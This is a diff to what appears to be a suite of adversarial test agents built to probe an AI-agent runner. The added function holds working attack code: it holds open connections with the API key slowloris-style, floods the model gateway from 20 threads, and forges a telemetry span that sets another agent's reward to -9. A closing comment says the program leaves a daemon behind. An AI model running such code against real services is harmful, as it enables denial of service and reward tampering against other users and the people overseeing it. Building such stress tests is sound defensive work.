@@ -1,12 +1,18 @@
 """Agents that would bring a careless runner down, one way each; 1.0 is the reward of one that got away with nothing."""
 
 import functools
+import hashlib
 import json
 import os
 import signal
+import socket
 import sys
+import threading
 import time
+import urllib.error
+import urllib.parse
 import urllib.request
+from collections import Counter
 from pathlib import Path
 
 import openai
@@ -181,6 +187,52 @@ def tells(task):
         "status": Path("/proc/self/status").read_text(),
         "readable": [path for path in task.get("paths", ()) if os.access(path, os.R_OK)],
     }
+
+
+def attacks_the_gateway(task):
+    if task.get("calm"):
+        ask()
+        return 0.25
+    url, key = urllib.parse.urlsplit(os.environ["OPENAI_BASE_URL"]), os.environ["OPENAI_API_KEY"]
+    head = f"POST {url.path}/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
+    for said in ("", "POST /slot", f"{head}Content-Length: 1000000\r\n\r\n{{", f"{head}X: {'y' * 100_000}\r\n\r\n"):
+        for _ in range(10):
+            connection = socket.create_connection((url.hostname, url.port))
+            connection.sendall(said.encode())
+            hoard.append(connection)  # and wait
+    statuses = Counter()
+
+    def flood():
+        for _ in range(20):
+            try:
+                with urllib.request.urlopen(urllib.request.Request(f"{url.geturl()}/models", headers=bearer)) as answer:
+                    statuses[answer.status] += 1
+            except urllib.error.HTTPError as error:
+                statuses[error.code] += 1
+
+    bearer = {"Authorization": f"Bearer {key}"}
+    threads = [threading.Thread(target=flood) for _ in range(20)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    hoard.clear()
+    trace = hashlib.sha256(f"trace:{task['victim']}".encode()).hexdigest()[:32]  # as any agent could work it out
+    times = {"startTimeUnixNano": "1", "endTimeUnixNano": "2"}
+    reward = [{"key": "lightningbus.reward", "value": {"doubleValue": -9.0}}]
+    span = {"traceId": trace, "spanId": "01" * 8, "name": "stolen", "attributes": reward, **times}
+    body = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]}).encode()
+    sent = {**bearer, "Content-Type": "application/json"}
+    otlp = os.environ["OTEL_EXPORTER_OTLP_ENDPOINT"] + "/v1/traces"
+    while True:  # what it held open is let go when it is heard of
+        try:
+            urllib.request.urlopen(urllib.request.Request(otlp, body, sent)).close()
+            break
+        except urllib.error.HTTPError as error:
+            if error.code != 429:
+                raise
+            time.sleep(0.05)
+    return float(statuses.keys() <= {200, 429} and 429 in statuses)
 
 
 if __name__ == "__main__":  # as a program: looks into whoever started it, and leaves a daemon
